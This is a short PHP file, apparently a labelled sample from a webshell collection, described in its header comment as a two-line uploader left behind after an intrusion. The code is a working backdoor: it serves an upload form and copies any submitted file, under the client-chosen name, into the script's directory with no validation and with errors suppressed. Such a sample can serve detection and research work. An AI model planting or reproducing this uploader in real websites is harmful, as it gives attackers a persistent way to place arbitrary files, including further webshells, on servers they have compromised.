<?php
/* Family: webshell/file-manager
 * Style: two-line uploader left behind after an intrusion
 * Trait: copy() of the uploaded temporary file to the name the client sent, in the script's directory, no check of any kind
 */
echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input name="go" type="submit" value="Upload"></form>';
if (isset($_POST['go'])) {
	if (@copy($_FILES['f']['tmp_name'], $_FILES['f']['name'])) { echo 'done'; } else { echo 'failed'; }
}
